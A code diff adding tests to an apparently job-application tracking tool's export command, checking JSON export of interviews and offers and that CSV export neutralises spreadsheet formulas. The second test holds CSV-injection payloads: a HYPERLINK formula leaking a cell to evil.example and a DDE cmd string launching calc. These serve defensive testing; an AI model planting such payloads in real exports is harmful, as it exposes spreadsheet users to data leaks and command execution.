@@ -80,6 +80,30 @@ def test_export_json_carries_every_field(journal):
     assert acme["contacts"] == ["jane-doe"] and acme["source"] == "referral" and acme["slug"] == "acme"
 
 
+def test_export_json_carries_interviews_offers_and_documents(journal):
+    """It stopped with a TypeError ("Interview is not JSON serializable") once an entry had one."""
+    journal.contact("jane-doe", name="Jane Doe")
+    (journal.root / "cv").mkdir()
+    (journal.root / "cv" / "backend.pdf").write_bytes(b"%PDF-1.4")
+    journal.application(
+        "acme",
+        company="Acme",
+        status="offer",
+        applied="2026-08-03",
+        interviews="[{at: 2026-12-08 10:30, kind: onsite, with: [jane-doe], length: 90}]",
+        offer="{base: 120000, currency: EUR, deadline: 2026-12-20}",
+        documents="[cv/backend.pdf]",
+    )
+    result = run("export", str(journal.root), "--format", "json")
+    assert result.exit_code == 0, result.output
+    (acme,) = json.loads(result.stdout)
+    (interview,) = acme["interviews"]
+    assert interview["day"] == "2026-12-08" and interview["time"] == "10:30"
+    assert interview["kind"] == "onsite" and interview["people"] == ["jane-doe"] and interview["length"] == 90
+    assert acme["offer"]["base"] == "120000" and acme["offer"]["deadline"] == "2026-12-20"
+    assert acme["documents"][0]["written"] == "cv/backend.pdf"
+
+
 def test_export_to_a_file_refuses_to_overwrite_without_force(journal, tmp_path):
     sample(journal)
     out = tmp_path / "apps.csv"
@@ -196,3 +220,26 @@ def test_a_tag_cadence_dates_the_stay_in_touch_event_as_the_reach_out_page_does(
     assert event.decoded("DTSTART") == date(2026, 11, 15)  # 14 days, not the 30-day default
     assert "every 14 days" in str(event["DESCRIPTION"])
     assert "10 days overdue" in (tmp_path / "site" / "stale.html").read_text("utf-8")
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(journal):
+    # An imported row can carry anything: opened in Excel or LibreOffice, `=HYPERLINK(...)` would run.
+    journal.application(
+        "evil",
+        company='\'=HYPERLINK("http://evil.example/?leak="&B3,"Click me")\'',
+        role="\"+cmd|' /C calc'!A0\"",
+        source='"@SUM(1+1)"',
+        location='"-2+3"',
+        salary='"-5"',
+        applied="2026-11-02",
+    )
+    result = run("export", str(journal.root))
+    assert result.exit_code == 0, result.output
+    row = next(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["Company"] == '\'=HYPERLINK("http://evil.example/?leak="&B3,"Click me")'
+    assert (
+        row["Role"] == "'+cmd|' /C calc'!A0" and row["Source"] == "'@SUM(1+1)" and row["Location"] == "'-2+3"
+    )
+    assert row["Salary"] == "-5"  # a plain number runs nothing: left as it is
+    exported = json.loads(run("export", str(journal.root), "--format", "json").stdout)
+    assert exported[0]["company"].startswith("=HYPERLINK")  # JSON is not a spreadsheet: as written
